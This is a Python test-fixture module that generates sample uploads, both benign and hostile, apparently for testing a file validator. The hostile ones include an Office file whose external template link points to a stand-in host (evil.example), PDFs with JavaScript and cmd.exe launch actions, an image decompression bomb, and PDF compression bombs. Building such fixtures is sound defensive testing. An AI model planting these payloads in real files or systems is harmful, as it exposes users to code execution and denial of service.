"""Files as people send them, and as somebody sends them who means harm; all made here."""

import json
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from django.core.files.base import ContentFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

OPEN_XML = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": ("word/document.xml", f"{OPEN_XML}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OPEN_XML}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OPEN_XML}presentationml.presentation.main+xml"),
}
KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}


def named(name: str, content: bytes) -> ContentFile:
    return ContentFile(content, name=name)


def photo(kind: str = "JPEG", size: tuple[int, int] = (60, 40), secret: str = "") -> bytes:
    """An image; with `secret` its place and maker say so."""
    exif = Image.Exif()
    if secret:
        exif[0x010E] = secret
        exif.get_ifd(0x8825)[29] = secret
    target = BytesIO()
    Image.new("RGB", size, "teal").save(target, kind, exif=exif.tobytes())
    return target.getvalue()


def archive(members: dict[str, bytes | str]) -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return target.getvalue()


def open_xml(extension: str, more: dict[str, bytes | str] | None = None, kind: str = "") -> bytes:
    part, usual = MAIN[extension]
    types = f'<Types><Override PartName="/{part}" ContentType="{kind or usual}"/></Types>'
    return archive({"[Content_Types].xml": types, part: "<document/>", **(more or {})})


def rels(kind: str, target: str = "https://evil.example/t.dotm") -> dict[str, str]:
    link = f'<Relationship Id="a" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": f"<Relationships>{link}</Relationships>"}


def open_document(extension: str, more: dict[str, bytes | str] | None = None) -> bytes:
    return archive(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{KINDS[extension]}",
            "META-INF/manifest.xml": "<manifest/>",
            "content.xml": "<content/>",
            **(more or {}),
        }
    )


def pdf(change=lambda _writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    target = BytesIO()
    writer.write(target)
    return target.getvalue()


def with_script(writer: PdfWriter) -> None:
    """The word hides in a name with an escaped letter, and the action deep inside."""
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): action})


def with_launch(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def box(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content) + 8) + kind + content


def film(index: bytes = b"") -> bytes:
    return box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"moov", box(b"mvhd") + index) + box(b"mdat", b"frames")


GOOD = {
    "csv": "Straße;Zahl\nKönigsplatz;3\n".encode(),
    "docx": open_xml("docx"),
    "json": json.dumps({"a": 1}).encode(),
    "mp4": film(),
    "odp": open_document("odp"),
    "ods": open_document("ods"),
    "odt": open_document("odt"),
    "pdf": pdf(),
    "pptx": open_xml("pptx"),
    "txt": b"Plain text.",
    "vtt": b"WEBVTT\n\n00:00.000 --> 00:01.000\nHello.\n",
    "xlsx": open_xml("xlsx"),
    "zip": archive({"karten/daten.csv": "a;b\n", "karten/bild.png": photo("PNG"), "ordner/": ""}),
}


def flood(side: int) -> bytes:
    """A small PNG that becomes a huge picture."""
    target = BytesIO()
    Image.new("1", (side, side)).save(target, "PNG")
    return target.getvalue()


def pdf_bomb(*, in_table: bool, megabytes: int = 200) -> bytes:
    """A small PDF whose table of objects, or whose packed objects, unpack to far more than anybody has."""
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: _stream(b"/Type/ObjStm/N 1/First 4", bomb),
    }
    made, rows = b"%PDF-1.7\n", bytes(6)
    for number, part in parts.items():
        rows += b"\x01" + len(made).to_bytes(4, "big") + b"\x00"
        made += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    rows += b"\x02" + (4).to_bytes(4, "big") + b"\x00"  # object 5 lies packed in object 4
    table = _stream(b"/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R", bomb if in_table else zlib.compress(rows))
    return made + b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(made)


def _stream(about: bytes, packed: bytes) -> bytes:
    return b"<<%s/Filter/FlateDecode/Length %d>>\nstream\n" % (about, len(packed)) + packed + b"\nendstream"
